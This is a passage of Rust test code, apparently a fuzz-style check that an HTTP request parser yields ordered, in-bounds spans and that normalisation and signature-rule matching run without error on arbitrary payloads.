                r.host.end,
                r.header.end,
                r.body.start,
                r.body.end,
            ];
            assert!(ends.windows(2).all(|w| w[0] <= w[1]) && r.body.end == payload.len(), "{r:?}");
        }
        let (n, r) = normalise_request(&payload);
        if let Some(r) = &r {
            assert!(r.body.end == n.len() && r.uri.end <= r.header.start);
        }
        let _ = hits(&rules, &payload);
        let _ = rules.iter().filter(|s| s.matches_payload(&n, r.as_ref())).count();
    }
}
